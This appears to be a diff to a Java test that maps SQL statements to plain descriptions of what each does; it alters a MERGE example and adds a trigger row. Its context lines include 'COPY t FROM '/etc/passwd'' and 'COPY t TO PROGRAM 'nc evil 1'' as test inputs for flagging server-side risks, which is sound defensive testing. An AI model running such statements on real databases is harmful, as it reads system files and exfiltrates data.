@@ -148,13 +148,14 @@ class FactsTextTest {
             GRANT admin TO bob                       | changes  rights
             COMMENT ON TABLE t IS 'x'                | changes  the comment on t
             REFRESH MATERIALIZED VIEW m              | changes  m: computes its rows anew
-            MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE | changes  t: adds, changes or deletes rows as its branches say
+            MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DO NOTHING | changes  t: adds, changes or deletes rows as its branches say
             COPY t FROM STDIN                        | note     takes its rows from the client
             COPY t TO STDOUT                         | note     sends its rows to the client
             COPY t FROM '/etc/passwd'                | note     reads or writes a file on the server
             COPY t TO PROGRAM 'nc evil 1'            | note     runs a program on the server
             DO $$ anything $$                        | note     runs code that can't be seen through
             CALL f(1)                                | calls    f
+            CREATE TRIGGER x AFTER INSERT ON t EXECUTE FUNCTION f() | attaches f
             LOCK t                                   | locks    t
             VACUUM t                                 | works on t
             SET LOCAL search_path = 'hr'             | setting  search_path to 'hr' for the transaction
